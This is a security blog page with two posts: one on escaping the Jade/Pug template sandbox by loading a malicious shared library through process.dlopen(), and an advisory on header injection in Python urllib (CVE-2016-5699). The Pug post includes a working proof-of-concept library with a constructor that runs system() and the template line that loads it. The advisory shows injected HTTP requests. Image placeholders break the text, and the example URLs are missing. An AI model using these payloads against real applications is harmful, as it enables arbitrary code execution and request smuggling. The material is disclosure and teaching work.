Sunday, September 4, 2016

Node.js: Breaking Out of Jade/Pug with process.dlopen()

UPDATE #1: The Jade/Pug developers emphasized to me that they never intended there to be any kind of "sandbox" or other controls limiting arbitrary code execution once you are within a template context.  The difficulty of breaking out of the limited namespace is simply an unintentional technical artifact.

UPDATE #2: James Kettle had pointed out a far simpler Jade breakout a full year before I published this.  I wish I saw that before embarking on my research... =/

Not long ago I was asked by a client to provide a short training on writing secure Node.js applications. As part of the class, I decided to build an intentionally-vulnerable Express application (under Node 4.x) that allowed insecure file uploads. In one scenario I created, the application was susceptible to a directory traversal vulnerability, allowing students to upload arbitrary Jade/Pug templates that the application would later execute. I'm not sure if this is a very common condition in Express applications, but it is plausible that it could show up in real-world apps.

Pug does allow server-side JavaScript execution from within templates, so when I was initially building this vulnerable application I assumed students would be able to immediately set up whatever backdoor they chose from within their malicious templates. However, I quickly realized I was mistaken! In fact, Pug sets up only a very limited scope/namespace for code to execute within. Most Node.js global variables are not available, and require() isn't available, making it very hard to get access to fun things likechild_process.exec(). The Jade developers have set themselves up a makeshift sandbox for this template code, which is great to see.Of course for someone like me, a sandbox doesn't look so much like a road block as it looks like a funchallenge. ;-) Clearly if a developer were to explicitly expose local variables to Pug when evaluating a template, and those local variables had dangerous methods or otherwise exposed important functionality, then an attacker might be able to leverage that application-specific capability from within Pug to escalate privileges. However, that's speculative at best and will vary from one app to the next, so it would be more interesting if there was a general purpose way to break out of Pug.

As basic reconnaissance, I began to enumerate the few global variables that are exposed in Pug. I started with a simple template and tested it from the command line:
$ echo '- for (var prop in global) { console.log(prop); }' > enumerate.jade
$ jade enumerate.jade

  rendered enumerate.html

Next, I began just printing out one object at a time to see a listing of methods and such, but it seemed like some pretty slim pickings. I'll spare you the excitement of how many methods and APIs I read about over the next hour or so. Yet even a blind dog finds a bone now and then, and finally I stumbled across an interesting method in the process object:
  _debugProcess: [Function: _debugProcess],
  _debugPause: [Function: _debugPause],
  _debugEnd: [Function: _debugEnd],hrtime: [Function: hrtime],
  dlopen: [Function: dlopen],
  uptime: [Function: uptime],
  memoryUsage: [Function: memoryUsage],
  binding: [Function: binding],

That scratched a part of my brain that is firmly outside of Node.js land. Of course! This is a wrapper to dlopen(3). Shared libraries (e.g. .so files, or .dll files on lesser operating systems) are code, and that is going to pique any hacker's interest. This method does not appear in the Node.js documentation, but it is definitely discussed around the webbernet in the context of Node.js, if you look for it. As it turns out, the Node.js wrapper to dlopen expects shared libraries to be proper Node-formatted modules. These are just regular shared libraries with certain additional symbols defined, and to be honest, I haven't absorbed every detail with respect to what these modules look like. But suffice it to say, you can't just load up the libc shared library and call system(3) to get your jollies, since Node's dlopen will blow up once it realizes isn't a proper Node module.

Of course we could use dlopen to load up any native Node module that is already installed as a dependency to the application. An attacker may need to know the full path to the pre-installed module, but one couldguess that with a bit of knowledge of the standard install directories. That would afford an attacker access to any functionality provided by the module from within Pug, which couldprovide a stepping stone to arbitrary code execution. But once again, that's going to be installation/application-specific and isn't nearly as fun as a general purpose escalation.

Recall, however, that my intentionally vulnerable Expressapplication allows file uploads! That's how I'm giving my students access to run Pug templates in the first place. So in this scenario, the attacker can just upload their own Node module as a separate file, containing whatever functionality they choose, and invoke it to gain access to that functionality within Pug code. The obvious way to do this would be to set up a proper Node build chain that creates a natively-compiled module. That seemed like a lot of work to me, so I came up with a short-cut. In order to load a module, Node needs to first call libc's dlopen. This function doesn't have nearly the pesky requirements that Node's module system does. What's more, libc (and Windows, for that matter) has the option to execute arbitrary code during the module load process. So before libc's dlopen even returns (and allows Node to verify the module exports), we can execute any code we like. So this is how I compiled my proof-of-concept payload using asimple shell script:


echo "INFO: Temporarily writing a C source file to /tmp/${NAME}.c"
cat > /tmp/${NAME}.c <<END
#include <stdio.h>
#include <stdlib.h>

/* GCC-ism designating the onload function to execute when the library is loaded */
static void onload() __attribute__((constructor));

/* Should see evidence of successful execution on stdout and in /tmp. */
void onload()
    printf("EVIL LIBRARY LOADED\n");
    system("touch /tmp/hacked-by-evil-so");

echo "INFO: Now compiling the code as a shared library..."
gcc -c -fPIC /tmp/${NAME}.c -o ${NAME}.o\
  && gcc ${NAME}.o -shared -o lib${NAME}.so

echo "INFO: Cleaning up..."
rm ${NAME}.o /tmp/${NAME}.c

echo "INFO: Final output is lib${NAME}.so in the current directory."

To test it locally, I simply ran this script to create the binary, and ran a bit of Pug code to attempt to load it as a module:
$ ./INFO: Temporarily writing a C source file to /tmp/evil.c
INFO: Now compiling the code as a shared library...
INFO: Cleaning up...
INFO: Final output is in the current directory.

$ echo "- process.dlopen('evil', './')" > test.jade
$ jade test.jade

  throw err;

Error: test.jade:1
  > 1| - process.dlopen('evil', './')

Module did not self-register.
    at Error (native)
    at eval (eval at  (/usr/local/lib/node_modules/jade/lib/index.js:218:8), :11:9)
    at eval (eval at  (/usr/local/lib/node_modules/jade/lib/index.js:218:8), :13:22)
    at res (/usr/local/lib/node_modules/jade/lib/index.js:219:38)
    at renderFile (/usr/local/lib/node_modules/jade/bin/jade.js:270:40)
    at /usr/local/lib/node_modules/jade/bin/jade.js:136:5
    at Array.forEach (native)
    at Object.(/usr/local/lib/node_modules/jade/bin/jade.js:135:9)
    at Module._compile (module.js:409:26)
    at Object.Module._extensions..js (module.js:416:10)
$ ls -la /tmp/*hack*
-rw-r--r-- 1 tim tim 0 Aug 26 19:23 /tmp/hacked-by-evil-so
As we expect, the library file fails to load as a true Node module, but the library's onload() function clearly ran with code of our choosing. Needless to say, this worked like a charm against the vulnerable app I created for the students.


Clearly this attack was possible because I set up the vulnerable application to accept file uploads in an unsafe way, which gavestudents access to both execute Jade/Pug templates and to upload shared libraries to complete the escalation. This may be a fairly uncommon situationin practice. However, there are a few other corner cases where an attacker may be able to leverage a similar sequence of steps leading to code execution. For instance, if a Pug template was vulnerable to an eval() injection during server-side JavaScript execution, then that would give an attacker access to the sandboxed execution context without needing to upload any files. From there, an attacker may be able to do one of the following to break out of the sandbox:
  • Any objects explicitly exposed to Pug in local variables by the application's developer could be leveraged to perhaps escalate privileges within the application or operating system, depending on the functionality exposed
  • Pre-installed native modules could be loaded up using dlopen, and any functionality in those could perhaps be used to escalate privileges
  • Under Windows, it may be possible to use dlopen with UNC paths to fetch a library payload from a remote server (I haven't tested this... would love to hear if others find it is possible!)
Am I forgetting any other possibilities? Probably. Ping me on Twitter if you have any other ideas.

Finally, I just want to make clear that I don't really fault the Pug developers for allowing this to occur. The code execution restrictions they have implemented really should be seen as a best-effort security measure. It is proactive and they should be applauded for it. The restricted namespace will certainly make an attacker's life difficult in many situations, and we can't expect the Pug developers to know about every little undocumented feature in the Node.js API. With that said: Should the Pug folks find a way to block dlopen access? Yes, probably. There's no good reason to expose this to Pug code in the vast majority of applications, and if a developer really wanted it, theycould expose it via local variables.

Wednesday, June 15, 2016

Advisory: HTTP Header Injection in Python urllib

Update 1: The MITRE Corporation has assigned CVE-2016-5699 to this issue.
Update 2: Remarkably, Blogger stripped the %00 element from a non-clickable URL when I originally posted this.  So I had to "fix" that by obfuscating it. *sigh*


Python's built-in URL library ("urllib2" in 2.x and "urllib" in 3.x) is vulnerable to protocol stream injection attacks (a.k.a. "smuggling" attacks) via the http scheme. If an attacker could convince a Python application using this library to fetch an arbitrary URL, or fetch a resource from a malicious web server, then these injections could allow for a great deal of access to certain internal services.

The BugThe HTTP scheme handler accepts percent-encoded values as part of the host component, decodes these, and includes them in the HTTP stream without validation or further encoding. This allows newline injections. Consider the following Python 3 script (named
#!/usr/bin/env python3

import sys
import urllib
import urllib.error
import urllib.request

url = sys.argv[1]

    info = urllib.request.urlopen(url).info()
except urllib.error.URLError as e:

This script simply accepts a URL in a command line argument and attempts to fetch it. To view the HTTP headers generated by urllib, a simple netcat listener was used:nc -l -p 12345

In a non-malicious example, we can hit that service by running:
This caused the following request headers to appear in the netcat terminal:
GET /foo HTTP/1.1
Accept-Encoding: identity
User-Agent: Python-urllib/3.4
Connection: close

Now we repeat this exercise with a malicious hostname:
The observed HTTP request is:
GET /foo HTTP/1.1
Accept-Encoding: identity
User-Agent: Python-urllib/3.4
X-injected: header
x-leftover: :12345
Connection: close
Here the attacker can fully control a new injected HTTP header.

The attack also works with DNS host names, though a NUL byte must be inserted to satisfy the DNS resolver. For instance, this URL will fail to lookup the appropriate hostname:
But this URL will connect to as expected and allow for the same kind of injection:
Note that this issue is also exploitable during HTTP redirects. If an attacker provides a URL to a malicious HTTP server, that server can redirect urllib to a secondary URL which injects into the protocol stream, making up-front validation of URLs difficult at best.

Attack Scenarios

Here we discuss just a few of the scenarios where exploitation of this flaw could be quite serious. This is far from a complete list. While each attack scenario requires a specific set of circumstances, there are a vast variety of different ways in which theflaw could be used, and we don't pretend to be able to predict them all.

HTTP Header Injection and Request Smuggling

The attack scenarios related to injecting extra headers and requests into an HTTP stream have been well documented for some time. Unlike the early request smuggling research, which has a complex variety of attacks, this simple injection would allow the addition of extra HTTP headers and request methods. While the addition of extra HTTP headers seems pretty limited in utility in this context, the ability to submit different HTTP methods and bodies is quite useful. For instance, if an ordinary HTTP request sent by urllib looks like this:
GET /foo HTTP/1.1
Accept-Encoding: identity
User-Agent: Python-urllib/3.4
Connection: close
Then an attacker could inject a whole extra HTTP request into the stream with URLs like:
Which produces:
GET /foo HTTP/1.1
Accept-Encoding: identity
User-Agent: Python-urllib/3.4
Connection: Keep-Alive

POST /bar HTTP/1.1
Content-Length: 31

Connection: close
This kind of full request injection was demonstrated to work against Apache HTTPD, though it may not work against web servers that do not support pipelining or are more restrictive on when it can be used. Obviously this kind of attack scenario could be very handy against internal, unauthenticated REST, SOAP, and similar services. (For example, see: Exploiting Server Side Request Forgery on a Node/Express Application (hosted on Amazon EC2).)

Attacking memcached

